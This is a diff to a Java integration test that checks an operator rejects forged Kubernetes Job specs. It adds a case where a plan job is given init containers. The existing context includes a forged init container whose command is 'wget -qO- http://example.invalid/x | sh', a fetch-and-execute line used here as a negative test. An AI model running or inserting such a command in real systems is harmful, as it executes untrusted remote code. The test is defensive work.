@@ -76,6 +76,7 @@ class OperatorJobForgeryIT {
     require(createAsOperator(forged(job -> { })));
     require(createAsOperator(forged(JobSamples.runFromImage(), job -> { })));
     require(createAsOperator(forged(JobSamples.plan(), job -> { })));
+    require(createAsOperator(forged(JobSamples.planFromImage(), job -> { })));
   }
 
   @Test
@@ -149,6 +150,9 @@ class OperatorJobForgeryIT {
     forgeries.put("init running a shell", forged(JobSamples.runFromImage(),
         j -> copyScripts(j).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"))));
     expected.put("init running a shell", "running cp");
+    forgeries.put("a plan opening the image", forged(JobSamples.planFromImage(),
+        j -> pod(j).setInitContainers(pod(JobSamples.runFromImage()).getInitContainers())));
+    expected.put("a plan opening the image", "a plan Job (the runner's plan program) has no init container");
 
     List<String> accepted = new ArrayList<>();
     forgeries.forEach((name, job) -> {
